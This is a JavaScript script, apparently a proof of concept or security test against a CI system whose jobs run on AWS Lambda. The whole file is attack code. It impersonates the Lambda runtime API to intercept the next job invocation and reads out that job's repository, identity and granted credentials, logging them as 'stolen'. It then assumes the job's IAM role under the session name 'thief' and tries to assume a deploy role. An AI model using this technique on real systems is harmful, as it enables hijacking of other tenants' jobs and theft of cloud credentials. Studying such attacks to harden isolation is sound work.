import { findRunner } from './find-runner.mjs'

// A command that answers the runtime API in the runner's place receives the next invocation, with the role of its job.
const { env } = findRunner()
const invocation = `http://${env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation`
await fetch(`${invocation}/${process.env.AWS_REQUEST_ID}/response`, { method: 'POST', body: 'null' })
const event = await (await fetch(`${invocation}/next`)).json()
const { build, job, grants } = JSON.parse(event.Records[0].Sns.Message)
console.log(`stolen ${build.repository} ${job.identity?.name} ${grants.jobRole}`)

const { AssumeRoleCommand, GetCallerIdentityCommand, STSClient } = await import(
  `${process.env.MODULES}/@aws-sdk/client-sts/dist-cjs/index.js`
)
const stsWith = credentials =>
  new STSClient({
    endpoint: env.AWS_ENDPOINT_URL_STS,
    region: env.AWS_REGION,
    maxAttempts: 1,
    credentials,
  })
const assume = RoleArn =>
  stsWith(grants.credentials).send(new AssumeRoleCommand({ RoleArn, RoleSessionName: 'thief' }))
const { Credentials } = await assume(grants.jobRole)
const session = {
  accessKeyId: Credentials.AccessKeyId,
  secretAccessKey: Credentials.SecretAccessKey,
  sessionToken: Credentials.SessionToken,
}
const { Arn } = await stsWith(session).send(new GetCallerIdentityCommand({}))
console.log(`I am ${Arn}`)
const refused = await assume(process.env.DEPLOY_ROLE).then(
  () => 200,
  error => error.$metadata?.httpStatusCode ?? String(error),
)
console.log(`the deploy role: ${refused}`)
